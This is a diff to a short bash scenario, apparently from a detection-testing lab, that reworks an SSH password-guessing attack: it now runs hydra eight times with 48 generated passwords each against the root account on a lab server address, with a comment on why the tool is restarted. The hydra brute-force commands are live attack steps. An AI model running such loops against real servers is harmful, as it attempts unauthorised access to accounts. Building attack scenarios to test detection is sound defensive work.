@@ -1,5 +1,5 @@
 # shellcheck shell=bash
-# about: 200 passwords for ssh (hydra)
+# about: 48 passwords for ssh, again and again (hydra)
 # type: attack
 # kind: password_guessing
 # target: server
@@ -7,6 +7,11 @@
 # tools: hydra sshd
 # within_ms: 10000
 play() {
-	passwords 200 >"$WORK/list"
-	on attacker timeout 30 hydra -I -o /dev/null -l root -P "$WORK/list" -t 8 "ssh://$SERVER_IP"
+	local n
+
+	# Debian's waits for ever once each of its threads has been sent away (six tries): so it is called again.
+	for n in {1..8}; do
+		passwords 48 >"$WORK/list"
+		on attacker timeout 2 hydra -I -o /dev/null -l root -P "$WORK/list" -t 8 "ssh://$SERVER_IP"
+	done
 }
